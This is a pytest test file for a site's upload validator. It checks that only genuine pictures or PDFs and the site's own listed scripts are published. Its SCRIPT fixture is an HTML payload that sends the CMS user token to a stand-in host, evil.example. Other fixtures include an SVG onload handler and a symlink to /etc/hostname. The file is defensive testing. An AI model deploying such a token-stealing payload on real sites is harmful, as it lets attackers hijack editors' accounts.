"""macros.data.uploads: docs/ publishes its pages, the site's own scripts, and uploads that are pictures or PDFs only."""
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from conftest import ROOT, copy_project
from macros.data import uploads

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
JPEG = b"\xff\xd8\xff\xe0" + b"\x00" * 32
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 32
PDF = b"%PDF-1.7\n" + b"\x00" * 32
SCRIPT = b"<!doctype html><script>fetch('https://evil.example/?t=' + localStorage.getItem('sveltia-cms.user'))</script>"


def docs_with(tmp_path, files: dict[str, bytes]):
    docs = tmp_path / "docs"
    for where, content in files.items():
        (docs / where).parent.mkdir(parents=True, exist_ok=True)
        (docs / where).write_bytes(content)
    return docs


def said(tmp_path, files) -> list[str]:
    return [str(p) for p in uploads.check(docs_with(tmp_path, files))]


def test_pictures_and_pdfs_named_as_they_are_pass(tmp_path):
    assert said(tmp_path, {"assets/uploads/a.png": PNG, "assets/uploads/b.jpg": JPEG, "assets/uploads/c.JPEG": JPEG,
                           "assets/uploads/d.webp": WEBP, "assets/uploads/sub/e.pdf": PDF, "assets/uploads/.gitkeep": b"",
                           "editors/img/f.png": PNG, "assets/site.js": b"// ours", "index.md": b"# Home"}) == []


NOT = "is not a picture or a PDF: its content is of another kind, whatever its name"


@pytest.mark.parametrize("name, content, why", [
    ("photo.html", SCRIPT, NOT),
    ("photo.png", SCRIPT, NOT),                       # judged by content, not by name
    ("photo.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", NOT),
    ("photo.png", JPEG, "holds a JPEG picture but its name ends .png: name it photo.jpg"),
    ("photo.pdf.html", PDF, "holds a PDF document but its name ends .html: name it photo.pdf.pdf"),
    ("notes.md", b"# A page", NOT),
    ("riff.webp", b"RIFF\x24\x00\x00\x00WAVEfmt " + b"\x00" * 8, NOT),
])
def test_anything_else_in_the_uploads_folder_is_refused_naming_it(tmp_path, name, content, why):
    [problem] = said(tmp_path, {f"assets/uploads/{name}": content})
    assert problem.startswith(f"docs/assets/uploads/{name}: {why}. An upload may be only a PNG, JPEG or WebP picture, "
                              "or a PDF document (the site publishes every file in docs/assets/uploads/ as it is)")


def test_an_upload_too_large_or_a_link_is_refused(tmp_path):
    docs = docs_with(tmp_path, {"assets/uploads/big.png": PNG + b"\x00" * uploads.MAX_UPLOAD_BYTES})
    os.symlink("/etc/hostname", docs / "assets/uploads/link.png")
    assert [p.message.split(".")[0] for p in uploads.check(docs)] == [
        f"is {uploads.MAX_UPLOAD_BYTES + len(PNG):,} bytes, more than the {uploads.MAX_UPLOAD_BYTES:,} an upload may be",
        "is a link or not an ordinary file"]


def test_an_uploads_name_that_identifies_is_refused_masked(tmp_path):
    [problem] = said(tmp_path, {"assets/uploads/jayden-born-2015-03-04.png": PNG})
    assert problem.startswith("docs/assets/uploads/jayden-bo••-••••-••-••.png: the file name looks like it holds a date of birth")


@pytest.mark.parametrize("where", ["page.html", "assets/x.js", "assets/evil.mjs", "editors/img/logo.svg", "a/b/feed.xml",
                                   "assets/SITE.JS", "x.xhtml"])
def test_a_file_a_browser_runs_anywhere_in_docs_must_be_one_of_the_sites_own(tmp_path, where):
    [problem] = said(tmp_path, {where: b"<script>alert(1)</script>"})
    assert problem.startswith(f"docs/{where}: is a file a browser runs or shows as a page (")
    assert "not one of the site's own (OWN in macros/data/uploads.py)" in problem


def test_the_sites_own_are_exactly_the_scripts_mkdocs_yml_loads_and_the_active_files_in_docs(tmp_path):
    """OWN is the one list: a script added to docs/ or to mkdocs.yml without it fails here. (The editors'
    uploads are left out: they are data, which make check and tests/test_live_data.py check.)"""
    config = yaml.load((ROOT / "mkdocs.yml").read_text(), Loader=yaml.BaseLoader)  # (its !ENV tags read as text)
    assert set(config["extra_javascript"]) == uploads.OWN
    uploaded = ROOT / uploads.MEDIA_FOLDER
    own = shutil.copytree(ROOT / "docs", tmp_path / "docs",
                          ignore=lambda folder, names: [n for n in names if Path(folder) / n == uploaded])
    active = {p.relative_to(own).as_posix() for p in own.rglob("*") if p.suffix.lower() in uploads.ACTIVE}
    assert active == uploads.OWN
    assert uploads.check(own) == []


@pytest.mark.parametrize("command", [["-m", "macros.tools.check"], ["-m", "macros.tools.build"]])
def test_a_script_uploaded_as_a_page_stops_check_and_build(tmp_path, command):
    """Issue 17, section 3: docs/assets/uploads/photo.html holding a script ran in Chromium at /assets/uploads/photo.html."""
    project = copy_project(tmp_path / "p")
    (project / "docs/assets/uploads").mkdir(parents=True)
    (project / "docs/assets/uploads/photo.html").write_bytes(SCRIPT)
    argv = command + ([str(project / "data")] if "macros.tools.check" in command else ["--site-dir", str(tmp_path / "site")])
    result = subprocess.run([sys.executable, *argv], cwd=project, capture_output=True, text=True,
                            env={**os.environ, "NO_MKDOCS_2_WARNING": "1"})
    assert result.returncode == 1
    assert "docs/assets/uploads/photo.html: is not a picture or a PDF" in result.stdout + result.stderr
    assert not (tmp_path / "site/assets/uploads/photo.html").exists()


def test_the_forms_configuration_bounds_uploads_and_is_valid_for_sveltia(tmp_path):
    """Sveltia cannot limit what its asset library accepts by kind (only a file field's `accept` can): the
    form bounds size and makes names plain; the kinds are enforced by make check and the build."""
    import jsonschema
    from macros.outputs import cms
    cfg = cms.config(ROOT / "data" / "schema", "org/repo")
    assert cfg["media_folder"] == uploads.MEDIA_FOLDER
    assert cfg["media_libraries"] == {"default": {"config": {"max_file_size": uploads.MAX_UPLOAD_BYTES, "slugify_filename": True}}}
    schema_path = ROOT / "node_modules/@sveltia/cms/schema/sveltia-cms.json"
    schema = json.loads(schema_path.read_text(encoding="utf-8"))
    assert list(jsonschema.validators.validator_for(schema)(schema).iter_errors(cfg)) == []
